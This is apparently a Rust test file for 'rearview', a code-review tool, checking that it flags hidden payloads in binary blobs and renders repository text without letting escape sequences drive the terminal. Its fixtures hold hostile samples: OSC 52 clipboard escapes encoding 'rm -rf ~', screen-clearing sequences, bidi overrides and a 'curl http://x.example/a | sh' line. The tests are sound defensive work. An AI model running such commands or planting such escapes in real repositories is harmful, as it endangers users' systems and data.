//! `rearview show` and `rearview hex` on the demo and on hostile history:
//! what a reviewer sees, and that nothing from the repository drives the
//! terminal.

mod support;

use support::binary::rearview;

use std::path::{Path, PathBuf};
use std::process::Output;

use rearview::model::Person;
use rearview::repo::write::{Files, Writer};

struct Demo {
    _dir: tempfile::TempDir,
    repo: PathBuf,
    db: PathBuf,
    changes: Vec<serde_json::Value>,
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

fn text(o: &Output) -> String {
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn demo() -> Demo {
    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("quill");
    let db = dir.path().join("db.sqlite3");
    rearview::pipeline::demo::build(&repo, Some(&db)).expect("demo");
    let out = rearview(&["list", "--format", "json", "--repo", s(&repo), "--db", s(&db)]);
    let changes: serde_json::Value = serde_json::from_str(&text(&out)).expect("json");
    let changes = changes.as_array().expect("array").clone();
    Demo { _dir: dir, repo, db, changes }
}

impl Demo {
    fn sha(&self, pr: u64) -> String {
        self.changes.iter().find(|c| c["pr"] == pr).and_then(|c| c["sha"].as_str()).expect("change").to_string()
    }

    fn show(&self, extra: &[&str]) -> String {
        let mut args = vec!["show", "--repo", s(&self.repo), "--db", s(&self.db)];
        args.extend_from_slice(extra);
        text(&rearview(&args))
    }
}

/// Removes the SGR colour sequences rearview writes; anything left that
/// starts an escape came from the repository.
fn strip_sgr(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' && chars.peek() == Some(&'[') {
            let mut seq = String::from("\u{1b}[");
            chars.next();
            while let Some(&d) = chars.peek() {
                chars.next();
                seq.push(d);
                if d == 'm' || !(d.is_ascii_digit() || d == ';') {
                    break;
                }
            }
            if !seq.ends_with('m') {
                out.push_str(&seq);
            }
            continue;
        }
        out.push(c);
    }
    out
}

#[test]
fn hidden_payloads_in_test_data_are_shown_with_offsets() {
    let d = demo();
    let out = d.show(&[&d.sha(124), "--color", "never"]);
    assert!(out.contains("added: Lib/test/files/bad-3-corrupt_lzma2.xz"), "{out}");
    assert!(out.to_lowercase().contains("xz"), "the file type is named: {out}");
    assert!(out.contains("ELF header: ELF 64-bit"), "the ELF header inside the data: {out}");
    assert!(out.contains("shebang: #!/bin/sh"), "the shell snippet: {out}");
    assert!(out.contains("shell command: export, head -c, eval, | sh"), "{out}");
    assert!(out.contains("script marker: marker ####Hello####"), "{out}");
    assert!(out.contains("⚠ 0x"), "findings carry offsets: {out}");
    assert!(out.contains("00000000  fd 37 7a 58 5a 00"), "the first rows as hex: {out}");
    assert!(out.contains("entropy"), "{out}");
    assert!(!out.contains('\u{1b}'), "--color never writes no escape at all");
}

#[test]
fn bidi_characters_are_visible_tokens() {
    let d = demo();
    let out = d.show(&[&d.sha(123), "--color", "always"]);
    for token in ["⟨U+202E RLO⟩", "⟨U+2066 LRI⟩", "⟨U+2069 PDI⟩"] {
        assert!(out.contains(token), "{token} in {out}");
    }
    assert!(!out.contains('\u{202E}') && !out.contains('\u{2066}'), "never the raw characters");
}

#[test]
fn word_level_changes_are_marked() {
    let d = demo();
    // gh-91010: `colno = pos - doc.rfind('\n', 0, pos)` gained ` - 1`.
    let out = d.show(&[&d.sha(110), "--color", "always"]);
    assert!(out.contains("48;2;31;111;58"), "the added words get the strong background: {out:?}");
    let plain = d.show(&[&d.sha(110), "--color", "never"]);
    assert!(plain.contains("-        colno = pos - doc.rfind('\\n', 0, pos)"), "{plain}");
    assert!(plain.contains("+        colno = pos - doc.rfind('\\n', 0, pos) - 1"), "{plain}");
    assert!(plain.contains("modified: Lib/json/decoder.py"));
    assert!(plain.contains("@@ -"), "hunk headers");
}

#[test]
fn side_by_side_puts_old_beside_new() {
    let d = demo();
    let out = d.show(&[&d.sha(110), "--color", "never", "--side-by-side", "--width", "160"]);
    let row = out.lines().find(|l| l.contains("colno = pos") && l.contains('┃')).expect("a paired row");
    let (left, right) = row.split_once('┃').expect("two sides");
    assert!(left.contains("rfind('\\n', 0, pos)") && !left.contains("- 1"), "{row}");
    assert!(right.contains("- 1"), "{row}");
    assert!(out.lines().all(|l| l.chars().count() <= 160), "fits the width");
}

#[test]
fn merges_diff_against_their_first_parent() {
    let d = demo();
    let out = d.show(&[&d.sha(103), "--color", "never"]);
    assert!(out.contains("merge of 2 parents"), "{out}");
    assert!(out.contains("modified: Tools/checker/src/main.rs"), "{out}");
    assert!(!out.contains("Lib/json"), "only what the merge brought: {out}");
}

#[test]
fn hex_shows_any_window_of_a_blob() {
    let d = demo();
    let spec = format!("{}:Lib/test/files/bad-3-corrupt_lzma2.xz", d.sha(124));
    let out = text(&rearview(&[
        "hex",
        &spec,
        "--repo",
        s(&d.repo),
        "--db",
        s(&d.db),
        "--offset",
        "0x100",
        "--length",
        "32",
        "--color",
        "never",
    ]));
    let rows: Vec<&str> = out.lines().filter(|l| l.starts_with("000001")).collect();
    assert_eq!(rows.len(), 2, "{out}");
    assert!(rows[0].starts_with("00000100  "), "{out}");
    assert!(out.contains("⚠ 0x"), "findings are listed: {out}");
    let bad = rearview(&["hex", "HEAD:nope", "--repo", s(&d.repo), "--db", s(&d.db)]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("unknown blob `HEAD:nope`"));
}

#[test]
fn repository_text_never_drives_the_terminal() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("r");
    let mut w = Writer::init(&path).expect("init");
    let evil = Person { name: "Eve\u{1b}]52;c;cm0gLXJmIH4=\u{7}".into(), email: "eve@example.org".into() };
    let mut files = Files::new();
    files.insert("ok.txt".into(), b"fine\n".to_vec());
    let t = w.tree(&files).expect("tree");
    let root = w.commit(Some("refs/heads/main"), &[], t, &evil, &evil, 1_700_000_000, "root\n").expect("commit");
    files.insert(
        "clear\u{1b}[2J.txt".into(),
        "x\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}y\n\u{9b}31m red\n".as_bytes().to_vec(),
    );
    files.insert("ok.txt".into(), "fine\tstill \u{202E}fine\n".as_bytes().to_vec());
    let t = w.tree(&files).expect("tree");
    let message = "Innocent \u{1b}[2J\u{1b}[H fix\n\nBody \u{1b}]52;c;cm0gLXJmIH4=\u{7} here\n";
    w.commit(Some("refs/heads/main"), &[root], t, &evil, &evil, 1_700_000_100, message).expect("commit");
    w.set_head("main").expect("head");
    let db = dir.path().join("db");
    for color in ["always", "never"] {
        for layout in [&[][..], &["--side-by-side"][..]] {
            let mut args = vec!["show", "main", "--repo", s(&path), "--db", s(&db), "--color", color];
            args.extend_from_slice(layout);
            let out = rearview(&args);
            let raw = String::from_utf8_lossy(&out.stdout).into_owned();
            assert!(out.status.success());
            let rest = strip_sgr(&raw);
            assert!(
                !rest.contains('\u{1b}') && !rest.contains('\u{9b}') && !rest.contains('\u{7}'),
                "{color}: {rest:?}"
            );
            assert!(!rest.chars().any(|c| c.is_control() && c != '\n'), "{color}: {rest:?}");
            assert!(rest.contains("␛[2J"), "the escape is shown, not run: {rest}");
            assert!(rest.contains("⟨U+202E RLO⟩"));
            if color == "never" {
                assert!(!raw.contains('\u{1b}'), "no escape sequences at all");
            }
        }
    }
}

/// Every line of a file's diff as `show` prints it, in both layouts.
fn rendered(file: &rearview::model::FileDiff, source: &dyn rearview::model::HunkSource) -> Vec<String> {
    use rearview::render::diff::{DiffRenderer, Layout, Palette};
    let mut out = Vec::new();
    for side_by_side in [false, true] {
        let layout = Layout { side_by_side, width: 100, syntax_theme: "Monokai Extended".into(), max_line_chars: None };
        let mut r = DiffRenderer::with_source(file, source, layout, Palette::default());
        out.extend(r.header().iter().map(|l| rearview::render::ansi::line(l, true)));
        for i in 0..r.hunk_count() {
            out.extend(r.hunk(i).iter().map(|l| rearview::render::ansi::line(l, true)));
        }
    }
    out
}

/// The lazy diff `show` streams from and the diff model render alike.
fn assert_lazy_matches_model(repo: &Path, sha: &str, paths: &[String]) {
    let repo = rearview::repo::Repo::open(repo).expect("open");
    let model = repo.diff(sha, paths).expect("diff");
    let lazy = repo.diff_lazy(sha, paths).expect("lazy diff");
    let files: Vec<_> = (0..lazy.len()).filter_map(|i| lazy.file(i).expect("file")).collect();
    assert_eq!(model.len(), files.len(), "{sha}");
    for (m, l) in model.iter().zip(&files) {
        let bare = rearview::model::FileDiff { hunks: Vec::new(), ..m.clone() };
        assert_eq!(bare, l.file, "{sha}");
        assert_eq!(rendered(m, m), rendered(&l.file, l), "{sha} {}", m.path());
    }
}

#[test]
fn the_streamed_diff_renders_as_the_model_does_on_the_demo() {
    let d = demo();
    for change in &d.changes {
        let sha = change["sha"].as_str().expect("sha");
        assert_lazy_matches_model(&d.repo, sha, &[]);
    }
    let sha = d.changes[0]["sha"].as_str().expect("sha");
    assert_lazy_matches_model(&d.repo, sha, &["nope".to_string()]);
}

#[test]
fn the_streamed_diff_renders_as_the_model_does_on_a_large_diff() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("repo");
    let mut w = Writer::init(&path).expect("init");
    let person = Person { name: "T".into(), email: "t@example.org".into() };
    let c = support::c_source::c_file(3_000);
    let before: String = c.iter().map(|l| format!("{l}\n")).collect();
    // Edits, insertions and deletions here and there, a rewritten block
    // longer than a piece, a CRLF file, a file without a final newline and
    // one that turns binary.
    let after: String = c
        .iter()
        .enumerate()
        .filter(|(i, _)| i % 97 != 5)
        .map(|(i, l)| match i {
            i if i % 50 == 0 => format!("{l} /* edited {i} */\n"),
            i if (1_000..1_450).contains(&i) => format!("    rewritten({i});\n"),
            i if i % 333 == 0 => format!("{l}\nint inserted_{i} = {i};\n"),
            _ => format!("{l}\n"),
        })
        .collect();
    let mut files = Files::new();
    files.insert("big.c".into(), before.into_bytes());
    files.insert("dos.txt".into(), b"one\r\ntwo\r\nthree\r\n".to_vec());
    files.insert("tail.py".into(), b"a = 1\nb = 2".to_vec());
    files.insert("data.txt".into(), b"text\n".to_vec());
    let t = w.tree(&files).expect("tree");
    let root = w.commit(Some("refs/heads/main"), &[], t, &person, &person, 1_700_000_000, "before\n").expect("commit");
    files.insert("big.c".into(), after.into_bytes());
    files.insert("dos.txt".into(), b"one\r\n2\r\nthree\r\n".to_vec());
    files.insert("tail.py".into(), b"a = 1\nb = 3".to_vec());
    files.insert("data.txt".into(), b"text\n\xff\xfe\n".to_vec());
    let t = w.tree(&files).expect("tree");
    let head =
        w.commit(Some("refs/heads/main"), &[root], t, &person, &person, 1_700_000_100, "after\n").expect("commit");
    assert_lazy_matches_model(&path, &head.to_string(), &[]);
    assert_lazy_matches_model(&path, &head.to_string(), &["tail.py".to_string()]);
}

/// A side long enough for a helper thread: the rendering equals the
/// styles of one highlighter run over the whole file.
#[test]
fn a_long_side_styled_by_two_threads_matches_one_run() {
    use rearview::render::diff::{DiffRenderer, Layout, Palette};
    use rearview::render::highlight::{FileHighlighter, DEFAULT_THEME};
    let lines: Vec<String> =
        support::c_source::c_file(40_000).iter().enumerate().map(|(i, l)| format!("{l} /* {i} */")).collect();
    let hunk = rearview::model::Hunk {
        old_start: 0,
        old_lines: 0,
        new_start: 1,
        new_lines: 40_000,
        context: String::new(),
        lines: lines
            .iter()
            .enumerate()
            .map(|(i, l)| rearview::model::DiffLine {
                kind: rearview::model::LineKind::Added,
                old_no: None,
                new_no: Some(i as u32 + 1),
                text: l.clone(),
                no_newline: false,
            })
            .collect(),
    };
    let file = rearview::model::FileDiff {
        old_path: None,
        new_path: Some("big.c".into()),
        status: rearview::model::FileStatus::Added,
        similarity: None,
        old_mode: 0,
        new_mode: 0o100644,
        binary: false,
        old_blob: None,
        new_blob: None,
        hunks: vec![hunk],
    };
    let layout = Layout { side_by_side: false, width: 1000, syntax_theme: DEFAULT_THEME.into(), max_line_chars: None };
    let rendered = DiffRenderer::new(&file, layout, Palette::default()).hunk(0);
    let reference = FileHighlighter::new("big.c", &lines[0], DEFAULT_THEME).highlight(&lines, 0..lines.len());
    let fg = |spans: &[rearview::render::Span]| -> Vec<_> {
        spans.iter().flat_map(|s| s.text.chars().map(move |c| (c, s.style.fg, s.style.bold, s.style.italic))).collect()
    };
    assert_eq!(rendered.len(), lines.len() + 1, "a header and every line");
    for (i, (row, want)) in rendered[1..].iter().zip(&reference).enumerate() {
        // The gutter and the marker, then the code.
        assert_eq!(fg(&row[2..]), fg(want), "line {i}");
    }
}

/// Filler bytes that start no finding (0x80..=0xbf), no two rows alike.
fn filler(len: usize) -> Vec<u8> {
    (0..len as u32).map(|i| 0x80 | (i.wrapping_mul(2_654_435_761) >> 13) as u8 & 0x3f).collect()
}

/// A 5 MiB blob with payloads straddling the 1 MiB steps the scan reads in.
fn large_blob() -> (Vec<u8>, Vec<u64>) {
    let mut data = filler(5 << 20);
    let mut put = |at: usize, bytes: &[u8]| data[at..at + bytes.len()].copy_from_slice(bytes);
    let shebang = (1 << 20) - 4;
    put(shebang, b"#!/bin/sh\ncurl http://x.example/a | sh\n");
    let mut elf = vec![0u8; 64];
    elf[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    elf[16] = 2;
    elf[18] = 0x3e;
    let elf_at = (2 << 20) - 20;
    put(elf_at, &elf);
    let marker = (3 << 20) - 6;
    put(marker, b"####Hello####");
    let curl = shebang + 10;
    (data, vec![shebang as u64, curl as u64, elf_at as u64, marker as u64])
}

#[test]
fn hex_reads_a_large_blob_in_one_pass_loose_or_packed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("r");
    let mut w = Writer::init(&path).expect("init");
    let (data, offsets) = large_blob();
    let p = Person { name: "A".into(), email: "a@example.org".into() };
    // An earlier version a few bytes apart, which a pack stores as a delta.
    let mut files = Files::new();
    let mut earlier = data.clone();
    earlier[0x480000..0x480010].fill(b'A');
    files.insert("big.bin".into(), earlier);
    let t = w.tree(&files).expect("tree");
    let root = w.commit(Some("refs/heads/main"), &[], t, &p, &p, 1_700_000_000, "big\n").expect("commit");
    files.insert("big.bin".into(), data.clone());
    let t = w.tree(&files).expect("tree");
    w.commit(Some("refs/heads/main"), &[root], t, &p, &p, 1_700_000_100, "bigger\n").expect("commit");
    w.set_head("main").expect("head");
    let db = dir.path().join("db");
    let hex_of = |spec: &str, extra: &[&str]| {
        let mut args = vec!["hex", spec, "--repo", s(&path), "--db", s(&db), "--color", "never"];
        args.extend_from_slice(extra);
        text(&rearview(&args))
    };
    let hex = |extra: &[&str]| hex_of("main:big.bin", extra);

    let deep = hex(&["--offset", "0x480000", "--length", "32"]);
    let found: Vec<u64> = deep
        .lines()
        .filter_map(|l| l.strip_prefix("⚠ 0x"))
        .map(|l| u64::from_str_radix(&l[..8], 16).expect("offset"))
        .collect();
    assert_eq!(found, offsets, "each payload once, across the scan's steps: {deep}");
    assert!(!deep.contains("first 64"), "the whole blob is scanned: {deep}");
    let rows: Vec<&str> = deep.lines().filter(|l| l.starts_with("0048")).collect();
    assert_eq!(rows.len(), 2, "{deep}");
    let bytes: Vec<String> = data[0x480000..0x480004].iter().map(|b| format!("{b:02x}")).collect();
    assert!(rows[0].starts_with(&format!("00480000  {}", bytes.join(" "))), "{deep}");

    // Longer than what the first pass keeps: read again, same rows.
    let kept = hex(&["--offset", "0x300000", "--length", "0x100000"]);
    let rest = hex(&["--offset", "0x300000"]);
    let row_lines = |out: &str| out.lines().filter(|l| l.starts_with("00")).map(str::to_owned).collect::<Vec<_>>();
    let (kept, rest) = (row_lines(&kept), row_lines(&rest));
    assert_eq!(rest.len(), (2 << 20) / 16);
    assert_eq!(rest[..kept.len()], kept[..]);
    assert_eq!(rest.last().map(|l| &l[..10]), Some("004ffff0  "));

    // The TUI's hex job: the blob's bytes as they are, every finding.
    let ctx = job_context(&path, &db);
    let git = std::process::Command::new("git").args(["rev-parse", "main:big.bin"]).current_dir(&path).output();
    let id = String::from_utf8(git.expect("git").stdout).expect("utf-8").trim().to_string();
    let job = || {
        let hex = rearview::jobs::load_hex_blocking(&ctx, "big.bin", None, Some(&id)).expect("hex job");
        let side = hex.new.expect("new side");
        assert!(side.bytes[..] == data[..], "the bytes as they are");
        side.findings.iter().map(|f| f.offset).collect::<Vec<_>>()
    };
    assert_eq!(job(), offsets);

    // Packed (one version whole, one a delta), the same output.
    let page = ["--offset", "0x47fff0", "--length", "64"];
    let loose = [hex(&page), hex_of("main~1:big.bin", &page)];
    assert_ne!(loose[0], loose[1]);
    let object = path.join(".git/objects").join(&id[..2]).join(&id[2..]);
    assert!(object.exists(), "loose first");
    let repack = std::process::Command::new("git").args(["repack", "-adq"]).current_dir(&path).status().expect("git");
    assert!(repack.success());
    assert!(!object.exists(), "packed now");
    let mut check = std::process::Command::new("git")
        .args(["cat-file", "--batch-check=%(deltabase)"])
        .current_dir(&path)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("git");
    use std::io::Write as _;
    check.stdin.take().expect("stdin").write_all(b"main:big.bin\nmain~1:big.bin\n").expect("write");
    let bases = String::from_utf8(check.wait_with_output().expect("git").stdout).expect("utf-8");
    assert!(bases.lines().any(|b| !b.trim_matches('0').is_empty()), "one is a delta: {bases}");
    assert_eq!([hex(&page), hex_of("main~1:big.bin", &page)], loose);
    assert_eq!(job(), offsets);
}

/// A modified binary reads the same in `rearview show` and the TUI's diff:
/// each side's type, size and findings, then the changed rows, old ┃ new.
#[test]
fn a_modified_binary_reads_the_same_in_show_and_the_tui() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("r");
    let mut w = Writer::init(&path).expect("init");
    let p = Person { name: "A".into(), email: "a@example.org".into() };
    let old = filler(4096);
    let mut new = old.clone();
    new[0x800..0x80d].copy_from_slice(b"####Hello####");
    let mut files = Files::new();
    files.insert("data.bin".into(), old);
    let t = w.tree(&files).expect("tree");
    let root = w.commit(Some("refs/heads/main"), &[], t, &p, &p, 1_700_000_000, "data\n").expect("commit");
    files.insert("data.bin".into(), new);
    let t = w.tree(&files).expect("tree");
    let sha = w.commit(Some("refs/heads/main"), &[root], t, &p, &p, 1_700_000_100, "hide\n").expect("commit");
    w.set_head("main").expect("head");
    let db = dir.path().join("db");

    let shown = text(&rearview(&["show", "main", "--repo", s(&path), "--db", s(&db), "--color", "never"]));
    let shown: Vec<&str> = shown.lines().skip_while(|l| !l.starts_with("binary (old)")).collect();
    let ctx = job_context(&path, &db);
    let parts = rearview::jobs::render_diff_blocking(&ctx, &sha.to_string(), 120, false, None).expect("diff");
    let tui: Vec<String> = parts
        .iter()
        .filter_map(|p| match p {
            rearview::jobs::DiffPart::Lines(lines) => Some(lines),
            _ => None,
        })
        .flatten()
        .map(|(_, line)| line.iter().map(|s| s.text.as_str()).collect::<String>())
        .skip_while(|l| !l.starts_with("binary (old)"))
        .collect();
    assert_eq!(shown, tui);
    assert!(shown[1].starts_with("binary (new): data, 4.0 KiB"), "{shown:?}");
    assert_eq!(shown[2], "⚠ 0x00000800  script marker: marker ####Hello####");
    assert_eq!(shown[3], "changed bytes, old ┃ new (first change at 0x800):");
    assert!(shown[4].starts_with("00000800  "), "{shown:?}");
    assert_eq!(shown.len(), 4 + 8, "eight rows: {shown:?}");
}

/// What a TUI job needs, with the default config and theme.
fn job_context(repo: &std::path::Path, db: &std::path::Path) -> rearview::jobs::JobContext {
    rearview::jobs::JobContext {
        repo: repo.to_path_buf(),
        db: db.to_path_buf(),
        config: rearview::config::Config::default(),
        github_api: None,
        theme: rearview::render::theme::Theme::default(),
    }
}
